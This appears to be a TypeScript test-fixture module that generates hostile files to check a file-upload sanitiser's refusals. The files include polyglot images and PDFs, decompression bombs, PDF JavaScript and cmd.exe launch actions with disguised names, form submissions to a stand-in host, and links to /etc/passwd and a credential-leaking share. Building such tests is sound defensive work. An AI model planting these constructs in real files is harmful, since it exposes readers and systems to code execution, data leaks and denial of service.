import { createHash } from 'node:crypto'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import sharp from 'sharp'
import type { FileRefusal } from '../files/file.table.ts'
import { bitmapOf, chunk, claiming, claimingHeic, pngOf, withComment, withNotes } from './images-by-hand.ts'
import { circle, packedObjects, pdfOf, streamOf, withCatalog, withLink, withPage } from './pdf-by-hand.ts'

/** Files that somebody makes to do harm, each with what must become of it. */
export interface HostileFile {
  name: string
  bytes: Buffer
  /** The reasons for which it may be refused; with none, it is made harmless. */
  refusals: readonly FileRefusal[]
}

/** What none of the kept files may hold, in clear. */
export const PAYLOAD = 'PAYLOAD-7f3a'

const latin1 = (text: string) => Buffer.from(text, 'latin1')

/** A ZIP of one stored file. */
const zip = (() => {
  const [name, data] = [latin1('x.js'), latin1(`alert("${PAYLOAD}")`)]
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt32LE(crc32(data) >>> 0, 14)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(data.length, 22)
  local.writeUInt16LE(name.length, 26)
  return Buffer.concat([local, name, data])
})()

const SCRIPT = `<script>alert("${PAYLOAD}")</script>`
const JS = `<< /S /JavaScript /JS (app.alert("${PAYLOAD}")) >>`
/** The test file that every antivirus finds, in two parts: this one is none. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const zeros = (megabytes: number) => deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 })

export const hostileFiles = async (): Promise<HostileFile[]> => {
  const photo = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#884422' } })
    .jpeg()
    .toBuffer()
  const rich = await sharp(noise(64 * 48 * 3), { raw: { width: 64, height: 48, channels: 3 } })
    .jpeg()
    .toBuffer()
  const png = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#884422' } })
    .png()
    .toBuffer()
  const pdf = Buffer.from(await (await onePage()).save())
  const { dictionary, text } = packedObjects([JS])
  const packed = deflateSync(latin1(text))
  const hidden = packedObjects(['<< >>'])
  const bomb = (more: string, data: Buffer, between = '') =>
    withCatalog('', streamOf(`${hidden.dictionary} ${more}`, data, between))
  const attached = await onePage()
  await attached.attach(latin1(PAYLOAD), 'x.exe', { mimeType: 'application/octet-stream' })
  const locked = await onePage()
  locked.encrypt({ userPassword: 'secret', ownerPassword: 'secret' })
  const halfLocked = await onePage()
  halfLocked.encrypt({ ownerPassword: 'secret' })
  const many = await PDFDocument.create()
  for (let i = 0; i < 31; i++) many.addPage([200, 200])
  const files: [string, Buffer, ...FileRefusal[]][] = [
    // Two things at once.
    ['a photo with a ZIP behind it', Buffer.concat([photo, zip])],
    ['a picture with a program behind it', Buffer.concat([png, latin1(SCRIPT)])],
    ['a photo with a script in its comment', withComment(photo, SCRIPT)],
    ['a PDF with a web page behind it', Buffer.concat([pdf, latin1(`\n${SCRIPT}`)])],
    ['a PDF with a web page before it', Buffer.concat([latin1(`${SCRIPT}\n`), pdf]), 'UNKNOWN_TYPE'],
    ['a GIF that is a program', latin1(`GIF89a/*${'\0'.repeat(10)}*/=1;alert("${PAYLOAD}")`), 'UNKNOWN_TYPE'],
    ['a ZIP', zip, 'UNKNOWN_TYPE'],
    ['a photo with a PDF behind it', Buffer.concat([photo, withCatalog(`/OpenAction ${JS}`)])],
    ['a PDF that is an archive too', Buffer.concat([pdf, zip])],
    ['a GIF with a PDF behind it', Buffer.concat([latin1('GIF89a'), pdf]), 'UNKNOWN_TYPE'],
    // Not what is taken.
    ['an archive that unpacks to 100 MB', gzipSync(Buffer.alloc(100 * 1024 * 1024)), 'UNKNOWN_TYPE'],
    ['a picture for Windows that claims 30,000 by 30,000 points', bitmapOf(30_000), 'UNKNOWN_TYPE'],
    [
      'an SVG with a script',
      latin1(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      'UNKNOWN_TYPE',
    ],
    ['a web page', latin1(`<!doctype html>${SCRIPT}`), 'UNKNOWN_TYPE'],
    ['a program for Windows', Buffer.concat([latin1('MZ'), Buffer.alloc(510)]), 'UNKNOWN_TYPE'],
    ['a program for Linux', Buffer.concat([latin1('\x7fELF'), Buffer.alloc(510)]), 'UNKNOWN_TYPE'],
    ['an old Word file', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]), 'UNKNOWN_TYPE'],
    ['PostScript', latin1('%!PS-Adobe-3.0\n(rm) system'), 'UNKNOWN_TYPE'],
    ['an animated GIF', await sharp(photo).gif().toBuffer(), 'UNKNOWN_TYPE'],
    ['a WebP', await sharp(photo).webp().toBuffer(), 'UNKNOWN_TYPE'],
    ['a TIFF', await sharp(photo).tiff().toBuffer(), 'UNKNOWN_TYPE'],
    ['a text', latin1('Facture du 12 octobre'), 'UNKNOWN_TYPE'],
    ['nothing', Buffer.alloc(0), 'EMPTY'],
    ['one byte', Buffer.from([0xff]), 'UNKNOWN_TYPE'],
    ['zeros', Buffer.alloc(5000), 'UNKNOWN_TYPE'],
    // Cut, or a head alone.
    ['half a photo', rich.subarray(0, rich.length / 2), 'UNREADABLE'],
    ['half a picture', png.subarray(0, png.length / 2), 'UNREADABLE'],
    ['half a PDF', pdf.subarray(0, pdf.length / 2), 'UNREADABLE', 'EMPTY'],
    ['the head of a photo', Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'UNREADABLE'],
    ['the head of a PDF', latin1('%PDF-1.7\n'), 'UNREADABLE', 'EMPTY'],
    ['the head of a HEIC', latin1('\0\0\0\x18ftypheic\0\0\0\0heicmif1'), 'UNREADABLE'],
    ['a PDF of noise', Buffer.concat([latin1('%PDF-1.7\n'), noise(20_000)]), 'UNREADABLE', 'EMPTY'],
    // Far larger once open.
    ['a picture of no points', pngOf(0, 0, zeros(1)), 'UNREADABLE'],
    [
      'a picture of 10,000 pictures',
      pngOf(1, 1, deflateSync(Buffer.alloc(2)), chunk('acTL', Buffer.from('0000271000000000', 'hex'))),
      'UNKNOWN_TYPE',
    ],
    ['a photo whose notes lead back to themselves', withNotes(photo)],
    ['a HEIC that claims 60,000 by 60,000 points', claimingHeic(60_000), 'TOO_MANY_PIXELS', 'UNREADABLE'],
    ['a picture that claims 30,000 by 30,000 points', pngOf(30_000, 30_000, zeros(1)), 'TOO_MANY_PIXELS'],
    ['a photo that claims 65,000 by 65,000 points', claiming(photo, 65_000), 'TOO_MANY_PIXELS'],
    ['a picture of one point with 100 MB of them', pngOf(1, 1, zeros(100))],
    [
      'a picture with 100 MB of text',
      pngOf(1, 1, deflateSync(Buffer.alloc(2)), chunk('zTXt', Buffer.concat([latin1('a\0\0'), zeros(100)]))),
    ],
    [
      'a PDF with a picture of 60,000 by 60,000 points',
      withPage(
        '/Resources << /XObject << /I 4 0 R >> >> ',
        streamOf(
          '/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray',
          Buffer.alloc(1),
        ),
      ),
      'TOO_MANY_PIXELS',
    ],
    [
      'a PDF with 500 MB of points',
      withPage('/Contents 4 0 R ', streamOf('/Filter /FlateDecode', zeros(500))),
      'TOO_LARGE',
    ],
    [
      'a PDF with five times 100 MB of points',
      withPage('', ...Array.from({ length: 5 }, () => streamOf('/Filter /FlateDecode', zeros(100)))),
      'TOO_LARGE',
    ],
    ['packed objects that fill the memory', bomb('/Filter /FlateDecode', zeros(50)), 'TOO_LARGE'],
    ['the same, with its filter’s name disguised', bomb('/Filter /Fl#61teDecode', zeros(50)), 'TOO_LARGE'],
    ['the same, with a comment before its data', bomb('/Filter /FlateDecode', zeros(50), ' % >> obj'), 'TOO_LARGE'],
    [
      'the same, called otherwise',
      withCatalog('', streamOf('/Type /Obj#53tm /N 1 /First 4 /Filter /FlateDecode', zeros(50))),
      'TOO_LARGE',
    ],
    ['packed objects, packed twice', bomb('/Filter [/FlateDecode /FlateDecode]', deflateSync(zeros(50))), 'TOO_LARGE'],
    [
      'packed objects in figures',
      bomb('/Filter [/ASCIIHexDecode /FlateDecode]', latin1(`${zeros(20).toString('hex')}>`)),
      'TOO_LARGE',
    ],
    [
      'packed objects whose filter is said elsewhere',
      withCatalog('', streamOf(`${hidden.dictionary} /Filter 5 0 R`, zeros(50)), '/FlateDecode'),
      'TOO_LARGE',
    ],
    ['lists in lists, 100,000 deep', withCatalog(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`), 'UNREADABLE'],
    ['pages that hold each other', circle, 'UNREADABLE', 'EMPTY', 'TOO_MANY_PAGES'],
    ['more pages than are taken', Buffer.from(await many.save()), 'TOO_MANY_PAGES'],
    [
      'no page',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
      'EMPTY',
      'UNREADABLE',
    ],
    // What acts.
    ['a script that runs on opening', withCatalog(`/OpenAction ${JS}`), 'ACTIVE_CONTENT'],
    ['a script that runs on opening, said elsewhere', withCatalog('/OpenAction 4 0 R', JS), 'ACTIVE_CONTENT'],
    ['a script by its name', withCatalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', JS), 'ACTIVE_CONTENT'],
    [
      'a script in disguise',
      withCatalog(`/OpenAction << /S /J#61va#53cript /#4aS (app.alert("${PAYLOAD}")) >>`),
      'ACTIVE_CONTENT',
    ],
    ['a script that runs with a page', withPage(`/AA << /O ${JS} >> `), 'ACTIVE_CONTENT'],
    [
      'a script behind a link',
      withPage(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${JS} >>] `),
      'ACTIVE_CONTENT',
    ],
    [
      'a script among packed objects',
      withCatalog('', streamOf(`${dictionary} /Filter /FlateDecode`, packed)),
      'ACTIVE_CONTENT',
    ],
    [
      'a script among packed objects that are not packed',
      withCatalog('', streamOf(dictionary, latin1(text))),
      'ACTIVE_CONTENT',
    ],
    ['a program that is started', withCatalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'ACTIVE_CONTENT'],
    [
      'a page that opens another file',
      withPage('/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (x.pdf) >> >>] '),
      'ACTIVE_CONTENT',
    ],
    [
      'a form that is sent',
      withCatalog('/OpenAction << /S /SubmitForm /F (https://elsewhere.example) >>'),
      'ACTIVE_CONTENT',
    ],
    [
      'a form of another kind',
      withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', streamOf('', latin1('<xdp/>'))),
      'ACTIVE_CONTENT',
    ],
    [
      'a page that calls outside on opening',
      withCatalog('/OpenAction << /S /URI /URI (https://elsewhere.example) >>'),
      'ACTIVE_CONTENT',
    ],
    ['a film', withPage('/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>] '), 'ACTIVE_CONTENT'],
    ['another file within', Buffer.from(await attached.save({ useObjectStreams: false })), 'ACTIVE_CONTENT'],
    ['another file within, packed', Buffer.from(await attached.save({ useObjectStreams: true })), 'ACTIVE_CONTENT'],
    ['a PDF with a password', Buffer.from(await locked.save()), 'PROTECTED_BY_PASSWORD'],
    ['a PDF that may not be changed', Buffer.from(await halfLocked.save()), 'PROTECTED_BY_PASSWORD'],
    [
      'a form that is sent, its name in disguise',
      withCatalog(
        '/AcroForm << /Fields [4 0 R] >>',
        '<< /FT /Btn /T (x) /A << /S /S#75bmitForm /F (https://elsewhere.example) >> >>',
      ),
      'ACTIVE_CONTENT',
    ],
    [
      'a form of another kind, its name in disguise',
      withCatalog('/AcroForm << /X#46A 4 0 R /Fields [] >>', streamOf('', latin1('<xdp/>'))),
      'ACTIVE_CONTENT',
    ],
    ['a page that opens a file within another', withLink('<< /S /GoToE /F (x.pdf) >>'), 'ACTIVE_CONTENT'],
    ['a script after a harmless step', withLink(`<< /S /GoTo /D [3 0 R /Fit] /Next ${JS} >>`), 'ACTIVE_CONTENT'],
    ['a link to a script', withLink(`<< /S /URI /URI (javascript:alert\\("${PAYLOAD}"\\)) >>`), 'ACTIVE_CONTENT'],
    ['a link to a file of the reader’s', withLink('<< /S /URI /URI (file:///etc/passwd) >>'), 'ACTIVE_CONTENT'],
    [
      'a link to a share that asks who one is',
      withLink('<< /S /URI /URI (\\\\\\\\elsewhere.example\\\\x) >>'),
      'ACTIVE_CONTENT',
    ],
    [
      'a script that runs when a note is passed over',
      withPage(`/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /AA << /E ${JS} >> >>] `),
      'ACTIVE_CONTENT',
    ],
    [
      'a page whose drawing calls itself',
      withPage(
        '/Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> ',
        streamOf(
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>',
          latin1('/X Do'),
        ),
        streamOf('', latin1('/X Do')),
      ),
    ],
    ['a payload that no page refers to', withCatalog('', streamOf('', latin1(PAYLOAD)))],
    [
      'a payload in what is said of the file',
      withCatalog('/Metadata 4 0 R', streamOf('/Type /Metadata', latin1(PAYLOAD))),
    ],
    // What a scanner looks for.
    ['the test of antiviruses', latin1(EICAR), 'INFECTED'],
    ['the test of antiviruses in a PDF', withCatalog('', streamOf('', latin1(EICAR))), 'INFECTED'],
    ['the test of antiviruses behind a photo', Buffer.concat([photo, latin1(EICAR)]), 'INFECTED'],
  ]
  return files.map(([name, bytes, ...refusals]) => ({ name, bytes, refusals }))
}

const onePage = async () => {
  const pdf = await PDFDocument.create()
  pdf.addPage([200, 200]).drawText('Facture', { x: 20, y: 100 })
  return pdf
}

/** Bytes without any order, the same each time. */
export const noise = (length: number): Buffer =>
  Buffer.concat(
    Array.from({ length: Math.ceil(length / 32) }, (_, i) => createHash('sha256').update(`noise ${i}`).digest()),
  ).subarray(0, length)
